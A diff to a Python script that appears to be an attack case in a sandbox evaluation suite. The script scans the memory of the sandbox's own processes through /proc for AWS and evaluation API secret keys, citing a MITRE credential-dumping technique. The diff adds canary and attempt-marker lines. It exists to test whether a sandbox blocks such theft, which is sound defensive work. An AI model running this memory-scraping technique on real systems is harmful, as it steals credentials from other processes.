@@ -2,6 +2,8 @@
 # tries: search the memory of the sandbox's own processes (/proc/PID/maps and /proc/PID/mem, argv[0] named stockade*) for the caller's secrets (AWS_SECRET_ACCESS_KEY=, STOCKADE_EVAL_API_KEY=) and print what follows
 # source: https://attack.mitre.org/techniques/T1003/007/
 # exfil: yes
+# stopped-when: canary-unread
+# attempted-when: marker
 #
 # Bound: at most 64 MiB read per process.
 import os
@@ -10,6 +12,7 @@ import sys
 
 if len(sys.argv) < 9:
     sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
+print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
 pattern = re.compile(rb"(AWS_SECRET_ACCESS_KEY|STOCKADE_EVAL_API_KEY)=([^\0\n]{1,200})")
 for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
     try:
